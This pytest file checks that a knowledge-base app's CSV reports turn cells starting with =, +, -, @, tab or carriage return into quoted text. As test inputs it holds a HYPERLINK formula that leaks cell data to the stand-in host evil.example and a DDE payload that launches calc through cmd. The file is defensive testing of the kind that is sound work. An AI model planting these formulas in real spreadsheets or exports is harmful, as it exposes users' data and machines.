"""Cells a spreadsheet would run as a formula are written as text in every CSV kb serves."""

from __future__ import annotations

import csv
import io

import pytest

from kb.reports.base import Table
from tests.conftest import AuthActions

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


def test_a_formula_searched_for_is_text_in_the_content_gaps_csv(client):
    client.get("/search", query_string={"q": FORMULA})
    client.get("/search", query_string={"q": "@SUM(1+1)*cmd|' /C calc'!A0"})
    AuthActions(client).login("reviewer")
    response = client.get("/reports/content-gaps.csv")
    assert response.status_code == 200
    cells = [
        cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row
    ]
    queries = [c for c in cells if "HYPERLINK" in c or "SUM(" in c]
    assert queries, cells
    for cell in queries:
        assert cell.startswith("'"), cell
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@A1", "\t=1", "\r=1"])
def test_every_dangerous_first_character_is_neutralised(value):
    text = Table("t", ["query", "count"], [[value, 3]]).csv()
    (row,) = list(csv.reader(io.StringIO(text)))[1:]
    assert row == ["'" + value, "3"]


def test_numbers_and_plain_text_are_unchanged():
    text = Table("t", ["query", "count", "share"], [["vpn error", -3, 0.5]]).csv()
    assert text.splitlines()[1] == "vpn error,-3,0.5"
